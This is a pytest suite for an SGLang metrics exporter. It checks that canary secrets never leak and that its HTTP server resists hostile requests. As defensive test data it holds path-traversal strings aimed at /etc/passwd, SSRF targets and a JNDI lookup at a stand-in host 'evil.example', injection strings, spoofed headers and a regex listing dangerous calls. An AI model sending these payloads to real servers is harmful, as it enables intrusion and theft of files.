"""What SECURITY.md promises: no secret leaves, no request reaches a file or a socket, every answer is guarded."""

from __future__ import annotations

import gzip
import json
import re
import signal
import socket
import subprocess
import sys
import time
from contextlib import suppress
from email.utils import parsedate_to_datetime
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
import requests

from conftest import (
    DECODE,
    PROGRAM,
    RETRACTION,
    SERVING,
    Exporter,
    FakeSGLang,
    environment,
    reply,
    running_exporter,
    wait_for,
    web,
)
from conftest import config as settings
from sglang_tuning_exporter.cli import main
from sglang_tuning_exporter.collect.scrape import Client, ScrapeError
from sglang_tuning_exporter.collect.sidecar import Sidecar
from sglang_tuning_exporter.config import OPTIONS
from sglang_tuning_exporter.serve.guard import MOST_BODY_BYTES, SAFE_HEADERS
from sglang_tuning_exporter.serve.run import MOST_HEAD_BYTES
from web_access import ask, basic, hashed, ours

if TYPE_CHECKING:
    from collections.abc import Iterator

ROOT = Path(__file__).resolve().parent.parent
KEY = "canary-bearer-c41d"
NAMES = (
    "api_key",
    "admin_api_key",
    "hf_token",
    "ssl_keyfile_password",
    "nccl_auth_token",
    "password",
    "file_storage_secret",
)
CANARIES = {name: f"canary-{name.replace('_', '-')}-7e2b" for name in NAMES}
WRONG_PASSWORD = "canary-wrong-password-90aa"
EVERY_SECRET = (KEY, WRONG_PASSWORD, *CANARIES.values())


def printed_arguments() -> bytes:
    """The arguments as old and as new releases print them, and lines around them that repeat a key."""
    old = ", ".join(f"{name}='{value}'" for name, value in CANARIES.items())
    new = {"model_path": "a/b", "schedule_conservativeness": 0.1, "mem_fraction_static": 0.8, **CANARIES}
    return (
        f"[2025-11-20 11:39:58] server_args=ServerArgs(model_path='a/b', {old}, mem_fraction_static=0.8)\n"
        f"[2025-11-20 11:39:59] server_args={new}\n"
        "[2025-11-20 11:40:00 TP0] max_total_num_tokens=1040384, max_running_requests=4096, available_gpu_mem=9.87 GB\n"
        f'[2025-11-20 11:40:01] INFO:     10.0.0.1:9 - "GET /v1/models?api_key={CANARIES["api_key"]} HTTP/1.1" 200 OK\n'
        f"[2025-11-20 11:40:02] Decode batch, Authorization: Bearer {KEY}, #running-req: x, token usage: 9\n"
        f"[2025-11-20 11:40:03] RuntimeError: request with password={CANARIES['password']} failed\n"
    ).encode()


def lines_of_a_night() -> bytes:
    pairs = [(RETRACTION, DECODE)] * 30
    text = b"".join(line for pair in pairs for line in pair)
    return printed_arguments() + text


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """All outputs of the exporter and its commands, by name, after input full of secrets."""
    place = tmp_path_factory.mktemp("canaries")
    fake = FakeSGLang({"/metrics": reply(SERVING)})
    info = {"version": "0.5.23", "model_path": "a/b", **CANARIES, "internal_states": [{**CANARIES}]}
    fake.answers["/server_info"] = fake.answers["/get_server_info"] = reply(json.dumps(info).encode())
    fake.start()
    key, log, state, web_config = (place / name for name in ("key", "server.log", "state.json", "web.yml"))
    key.write_text(KEY + "\n")
    log.write_bytes(lines_of_a_night())
    web_config.write_text(f"basic_auth_users: {{a: '{hashed(WRONG_PASSWORD + ' not')}'}}")
    flags = ("--sglang-url", fake.url, "--log-file", str(log), "--from-start", "--api-key-file", str(key),
             "--state-file", str(state), "--web-config", str(web_config))  # fmt: skip
    found: dict[str, str] = {}
    try:
        with running_exporter(*flags) as exporter:
            right = basic("a", WRONG_PASSWORD + " not")
            wait_for(lambda: fake.count("/server_info") + fake.count("/get_server_info") > 0, 30)
            paths = ("/metrics", "/", "/?still", "/api/v1/findings", "/runbooks/", "/absent",
                     "/runbooks/SGLangRetractingTooOften", "/runbooks/SGLangServerDown")  # fmt: skip
            for path in paths:
                found[path] = exporter.get(path, {"Authorization": right}).text
            found["refused"] = exporter.get("/", {"Authorization": basic("a", WRONG_PASSWORD)}).text
            # A server that answers with what it was sent, then one that is another's.
            for status in ("401 Unauthorized", "500 Internal Server Error"):
                fake.answers["/metrics"] = reply(f"Bearer {KEY}".encode(), status)
                found[status] = exporter.get("/metrics", {"Authorization": right}).text
            fake.answers["/metrics"] = reply(b"", "302 Found", more=f"Location: http://127.0.0.2:9/?api_key={KEY}\r\n")
            found["redirected"] = exporter.get("/metrics", {"Authorization": right}).text
            found["page without server"] = exporter.get("/", {"Authorization": right}).text
            process = Path(f"/proc/{exporter.process.pid}")
            found["process arguments"] = (process / "cmdline").read_text()
            found["process environment"] = (process / "environ").read_text()
        found["standard error"] = "".join(exporter.said)
        found["state file"] = state.read_text()
        assert any(f"Bearer {KEY}" in head for head in fake.asked), "the key was not used"
        fake.answers["/metrics"] = reply(SERVING)
        for format_ in ("text", "json", "html"):
            main(["report", str(log), "--format", format_, "--output", str(place / f"report.{format_}")])
            found[f"report as {format_}"] = (place / f"report.{format_}").read_text()
        recorded = subprocess.Popen(
            [*PROGRAM, "record", "--sglang-url", fake.url, "--log-file", str(log),
             "--output", str(place / "recording"), "--api-key-file", str(key), "--keep-request-text", "--seconds", "4"],
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=environment(),
        )  # fmt: skip
        wait_for(lambda: (place / "recording").exists() or recorded.poll() is not None, 60)
        with log.open("ab") as grown:
            grown.write(lines_of_a_night())
        found["what record says"] = recorded.communicate(timeout=60)[0].decode()
    finally:
        fake.stop()
    for file in sorted((place / "recording").rglob("*")):
        if file.is_file():
            found[f"recording: {file.name}"] = unpacked(file)
    return found


def unpacked(file: Path) -> str:
    raw = file.read_bytes()
    return (gzip.decompress(raw) if raw[:2] == b"\x1f\x8b" else raw).decode("utf-8", "replace")


def test_no_secret_is_in_anything_that_leaves_the_exporter(outputs: dict[str, str]) -> None:
    found = {(name, secret) for name, text in outputs.items() for secret in EVERY_SECRET if secret in text}
    assert found == set()


def test_the_outputs_that_were_searched_are_those_of_a_server_that_was_seen(outputs: dict[str, str]) -> None:
    """Otherwise the outputs would have had nothing to leak."""
    assert "sglang_tuning_retraction_events_total" in outputs["/metrics"]
    assert "sglang_tuning_up 0.0" in outputs["500 Internal Server Error"]
    assert "a/b" in outputs["/api/v1/findings"], "the arguments with the secrets among them were read"
    assert outputs["refused"] == "Unauthorized\n"
    assert "a/b" in outputs["report as json"]
    assert "<html" in outputs["report as html"]
    assert "etract" in outputs["report as text"]
    assert "--api-key-file" in outputs["process arguments"]
    assert "listening on" in outputs["standard error"]
    assert outputs["state file"].startswith("{")
    assert any("schedule_conservativeness" in text for name, text in outputs.items() if name.startswith("recording: "))


def test_no_flag_takes_a_secret_itself() -> None:
    """Every user of the machine can read the arguments of a process."""
    secretive = {option.name for option in OPTIONS if re.search(r"key|password|token|secret", option.name)}
    assert secretive == {"api_key_file"}


def test_a_key_that_is_replaced_is_used_from_then_on(sglang: FakeSGLang, tmp_path: Path) -> None:
    file = tmp_path / "key"
    file.write_text("first\n")
    client = Client(sglang.url, sglang.url + "/metrics", "first", file)

    def sent() -> str:
        client.metrics(5)
        return sglang.asked[-1].lower().partition("authorization: ")[2].partition("\r")[0]

    assert sent() == "bearer first"
    file.write_text("second\n")
    assert sent() == "bearer second"
    file.write_text("")  # it is being written
    assert sent() == "bearer second"
    file.unlink()
    assert sent() == "bearer second"
    file.write_bytes(b"\xff\n")
    assert sent() == "bearer second"


def test_a_redirect_to_another_server_does_not_take_the_key_there(sglang: FakeSGLang) -> None:
    other = FakeSGLang()
    other.start()
    sglang.answers["/metrics"] = reply(b"", "302 Found", more=f"Location: {other.url}/metrics\r\n")
    with pytest.raises(ScrapeError, match="redirects to another server"):
        Client(sglang.url, sglang.url + "/metrics", KEY).metrics(5)
    other.stop()
    assert other.asked == []


# --- what is answered ------------------------------------------------------------------------------------------------


@pytest.fixture
def sidecar(tmp_path: Path) -> Sidecar:
    (tmp_path / "server.log").touch()
    return Sidecar(settings(log_file=(str(tmp_path / "server.log"),)))


@pytest.fixture
def address(sidecar: Sidecar) -> Iterator[str]:
    with web(sidecar) as address:
        yield address


def exchange(address: str, request: bytes, most: int = 1 << 20) -> bytes:
    """The answer to these bytes, until the other side closes the connection or pauses."""
    parts = urlsplit(address)
    answer = b""
    with socket.create_connection((parts.hostname or "", parts.port or 0), timeout=5) as connection, suppress(OSError):
        connection.sendall(request)
        connection.settimeout(2)
        while len(answer) < most and (piece := connection.recv(65536)):
            answer += piece
    return answer


def asking(target: str, method: str = "GET", *more: str) -> bytes:
    return "\r\n".join([f"{method} {target} HTTP/1.1", "Host: x", "Connection: close", *more, "", ""]).encode("latin-1")


ANSWERED = {
    200: asking("/-/healthy"),
    307: asking("/runbooks"),
    400: b"\x16\x03\x01 not HTTP\r\n\r\n",
    404: asking("/absent"),
    405: asking("/metrics", "POST", "Content-Length: 0"),
    413: asking("/metrics", "GET", f"Content-Length: {MOST_BODY_BYTES + 1}"),
    503: asking("/-/ready"),
}


@pytest.mark.parametrize("status", ANSWERED)
def test_every_answer_carries_the_safe_headers_once(status: int, address: str) -> None:
    head = exchange(address, ANSWERED[status]).partition(b"\r\n\r\n")[0].decode()
    assert head.startswith(f"HTTP/1.1 {status} ")
    lines = head.split("\r\n")[1:]
    for name, value in SAFE_HEADERS.items():
        assert [line for line in lines if line.lower().startswith(name.lower() + ":")] == [f"{name.lower()}: {value}"]
    assert not [line for line in lines if line.lower().startswith(("server:", "x-powered-by:", "access-control-"))]
    [date] = [line[6:] for line in lines if line.lower().startswith("date: ")]
    assert abs(parsedate_to_datetime(date).timestamp() - time.time()) < 60


def test_an_internal_error_carries_them_too_and_reveals_nothing(sidecar: Sidecar, address: str) -> None:
    sidecar.judge = None  # type: ignore[assignment, method-assign]  # the page asks it, and fails
    answer = requests.get(address + "/", timeout=5)
    assert (answer.status_code, answer.text) == (500, "Internal Server Error")
    assert {name: answer.headers.get(name) for name in SAFE_HEADERS} == dict(SAFE_HEADERS)


def test_too_many_requests_at_once_are_turned_away_with_them() -> None:
    sidecar = Sidecar(settings(sglang_url="http://127.0.0.1:9"))
    with web(sidecar, limit_concurrency=1) as address:
        refused = exchange(address, asking("/-/healthy")).decode()
    assert refused.startswith("HTTP/1.1 503 ")
    assert all(f"{name.lower()}: {value}" in refused for name, value in SAFE_HEADERS.items())


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get"])
def test_other_methods_than_get_and_head_are_answered_405(method: str, address: str) -> None:
    for target in (
        "/",
        "/metrics",
        "/api/v1/findings",
        "/-/healthy",
        "/runbooks",
        "/runbooks/SGLangServerDown",
        "/absent",
    ):
        answer = exchange(address, asking(target, method)).decode().lower()
        assert answer.startswith("http/1.1 405 "), target
        assert "\r\nallow: get, head\r\n" in answer


def test_head_is_answered_as_get_without_its_body(address: str) -> None:
    for path in ("/", "/metrics", "/api/v1/findings", "/-/healthy", "/runbooks/"):
        assert requests.head(address + path, timeout=5).status_code == 200
        assert exchange(address, asking(path, "HEAD")).endswith(b"\r\n\r\n")


def test_a_head_that_is_too_long_is_400_and_what_fits_is_answered(address: str) -> None:
    room = MOST_HEAD_BYTES - 300
    assert exchange(address, asking("/-/healthy", "GET", "X: " + "x" * room)).startswith(b"HTTP/1.1 200 ")
    assert exchange(address, asking("/-/healthy?" + "x" * room)).startswith(b"HTTP/1.1 200 ")
    # More than the limit in one piece that has no end yet.
    endless = asking("/-/healthy")[:-4] + b"\r\nX: " + b"x" * (2 * MOST_HEAD_BYTES)
    assert exchange(address, endless).startswith(b"HTTP/1.1 400 ")
    assert exchange(address, b"GET /" + b"x" * (2 * MOST_HEAD_BYTES)).startswith(b"HTTP/1.1 400 ")


@pytest.mark.parametrize("announced", [f"Content-Length: {MOST_BODY_BYTES + 1}", "Transfer-Encoding: chunked"])
def test_a_body_that_is_large_or_of_no_said_length_ends_the_connection_unread(announced: str, address: str) -> None:
    request = asking("/metrics", "GET", announced).replace(b"Connection: close\r\n", b"")
    answer = exchange(address, request).lower()
    assert answer.startswith(b"http/1.1 413 ")
    assert b"\r\nconnection: close\r\n" in answer


def test_a_small_body_does_no_harm(address: str) -> None:
    assert requests.get(address + "/-/healthy", data=b"x" * 1000, timeout=5).status_code == 200


def test_an_upgrade_to_a_websocket_is_answered_as_the_plain_request_it_also_is(address: str) -> None:
    """With a websocket library installed, as here, uvicorn would pass the upgrade around the exporter's middleware."""
    upgrade = ("Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==")
    request = asking("/metrics", "GET", *upgrade).replace(b"Connection: close", b"Connection: Upgrade")
    answer = exchange(address, request, most=1)
    assert answer.startswith(b"HTTP/1.1 200 ")


# --- what a request reaches ------------------------------------------------------------------------------------------

AUDITED = """
import os, sys
out, listening = os.open(sys.argv[1], os.O_WRONLY | os.O_APPEND | os.O_CREAT), [False]
watched = ("open", "socket.connect", "socket.getaddrinfo", "socket.gethostby", "subprocess", "os.system", "os.exec",
           "os.posix_spawn", "os.fork", "os.remove", "os.rename", "os.mkdir", "os.listdir", "os.scandir", "import",
           "shutil", "ctypes", "exec", "compile")
def hook(event, arguments):
    if listening[0] and event.startswith(watched):
        os.write(out, (event + " " + repr(arguments[:2])[:300] + "\\n").encode())
sys.addaudithook(hook)
import signal
signal.signal(signal.SIGUSR1, lambda *_: listening.__setitem__(0, True))
from sglang_tuning_exporter.cli import main
sys.exit(main(sys.argv[2:]))
"""
HOSTILE = [
    "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc/passwd", "/runbooks/../../../etc/passwd",
    "/runbooks/..%2f..%2f..%2fetc%2fpasswd", "/runbooks/%2fetc%2fpasswd", "/runbooks//etc/passwd", "/runbooks/.%00.md",
    "/runbooks/README", "/runbooks/SGLangServerDown.md", "/runbooks/%ff%fe", "/runbooks/" + "A" * 5000, "//etc/passwd",
    "/?still=/etc/passwd", "/?config=http://evil.example/", "/metrics?target=http://evil.example:80/&collect[]=x",
    "/probe?target=evil.example", "/metrics?path=file:///etc/passwd", "http://evil.example/metrics",
    "/static/../app.py",
    "/runbooks/{{7*7}}", "/runbooks/${jndi:ldap://evil.example/a}", "/runbooks/'; DROP TABLE x;--", "/debug/pprof/heap",
    "/api/v1/findings?server=http://evil.example", "/api/v1/findings?callback=x", "/-/reload", "/-/quit",
    "/openapi.json",
]  # fmt: skip
HOSTILE_HEADERS = (
    "X-Forwarded-Host: evil.example", "X-Forwarded-For: evil.example", "Forwarded: for=evil.example;host=evil.example",
    "X-Original-URL: /etc/passwd", "X-Rewrite-URL: /etc/passwd", "Referer: http://evil.example/",
    "Range: bytes=0-10,20-30", "If-None-Match: *", "If-Modified-Since: x", "Cookie: session=../../etc/passwd",
    "Accept-Encoding: gzip, br", "Accept-Language: ../../x", "Content-Type: application/xml", "Expect: 200-maybe",
    "X-Prometheus-Scrape-Timeout-Seconds: 1e309", "Origin: http://evil.example", "X-HTTP-Method-Override: DELETE",
)  # fmt: skip


def test_no_request_reaches_a_file_a_program_or_a_socket_of_its_choice(sglang: FakeSGLang, tmp_path: Path) -> None:
    """Python's audit events list every file, connection and program, from the moment that
    each page was requested once.
    """
    log, events = tmp_path / "server.log", tmp_path / "events"
    log.write_bytes(lines_of_a_night())
    command = [sys.executable, "-c", AUDITED, str(events), "serve", "--listen-address", "127.0.0.1:0",
               "--sglang-url", sglang.url, "--log-file", str(log), "--from-start"]  # fmt: skip
    exporter = Exporter(subprocess.Popen(command, stderr=subprocess.PIPE, env=environment()))
    try:
        for path in (
            "/",
            "/metrics",
            "/api/v1/findings",
            "/runbooks/",
            "/runbooks/SGLangServerDown",
            "/runbooks",
            "/x",
        ):
            exporter.get(path)
        exporter.process.send_signal(signal.SIGUSR1)
        before = sglang.count("/metrics")
        answers = set()
        for number, target in enumerate(HOSTILE):
            header = HOSTILE_HEADERS[number % len(HOSTILE_HEADERS)]
            for method in ("GET", "HEAD", "POST"):
                request = asking(target, method, header).replace(b"Host: x", b"Host: evil.example")
                answers.add(exchange(exporter.url, request).partition(b"\r\n")[0].split(b" ")[1])
        assert exporter.get("/metrics").status_code == 200
        assert b"500" not in answers
        assert {b"404", b"405"} <= answers
        assert sglang.count("/metrics") > before
    finally:
        exporter.end()
    seen = events.read_text().splitlines()
    port = urlsplit(sglang.url).port
    sglangs = re.compile(rf"\(b?'127\.0\.0\.1', {port}[,)]")
    reached = [event for event in seen if not sglangs.search(event)]
    assert [event for event in seen if event.startswith("socket.connect")], "the hook saw not even the scrapes"
    assert [event for event in reached if not is_our_own(event, log)] == []


def is_our_own(event: str, log: Path) -> bool:
    """The exporter's own accesses: its log, its own process, and its SGLang."""
    return (
        str(log) in event
        or f"'{log.parent}'" in event
        or re.search(r"'/proc/(self|\d+)/(stat|limits|fd)'", event) is not None
    )


# --- SECURITY.md and what is checked without running -----------------------------------------------------------------


def test_every_test_that_the_threat_model_names_exists() -> None:
    text = (ROOT / "SECURITY.md").read_text()
    named = re.findall(r"`(test_\w+)\.py(?:::(test_\w+))?`", text)
    assert len(named) > 15
    for file, test in named:
        source = (ROOT / "tests" / f"{file}.py").read_text()
        assert not test or re.search(rf"^def {test}\(", source, re.MULTILINE), f"{file}.py has no {test}"


def test_every_row_of_the_threat_model_names_a_test() -> None:
    text = (ROOT / "SECURITY.md").read_text()
    rows = [
        line
        for line in text.splitlines()
        if line.startswith("| ") and not line.startswith(("| threat", "| event", "| ---"))
    ]
    assert len(rows) > 12
    assert [row for row in rows if not re.search(r"`test_\w+\.py", row)] == []


def test_every_exception_for_a_checker_has_its_reason() -> None:
    waved = [
        (file.name, line.strip())
        for folder in ("exporter", "bench", "fuzz")
        for file in (ROOT / folder).rglob("*.py")
        for line in file.read_text().splitlines()
        if "# nosec" in line
    ]
    assert [each for each in waved if not re.search(r"# nosec B\d{3}(?:, B\d{3})* # \W?\w+", each[1])] == []


def test_no_data_is_executed_or_unpickled_in_the_package() -> None:
    forbidden = re.compile(
        r"\b(pickle\b|marshal\b|shelve\b|eval\(|exec\(|os\.system|shell=True|yaml\.load\((?!text, Loader=_Loader))"
    )
    # The process that reads a large log sends this to the report, over a socket pair: no data from outside.
    of_our_process = re.compile(r"# nosec B(?:301|302|403) # data of our own process")
    for file in (ROOT / "exporter").rglob("*.py"):
        for line in file.read_text().splitlines():
            assert not forbidden.search(line) or of_our_process.search(line) or ".dumps(" in line, (file.name, line)


def test_a_request_in_the_clear_to_a_guarded_port_gives_nothing_away(tmp_path: Path) -> None:
    (tmp_path / "server.log").write_bytes(lines_of_a_night())
    file = tmp_path / "web.yml"
    file.write_text(f"basic_auth_users: {{a: '{hashed('b')}'}}")
    with ours(file) as running:
        bodies = {
            exchange(running.url, asking(path)).partition(b"\r\n\r\n")[2] for path in ("/", "/metrics", "/absent")
        }
        assert ask(running.url, None, basic("a", "b")).status == 200
    assert bodies == {b"Unauthorized\n"}
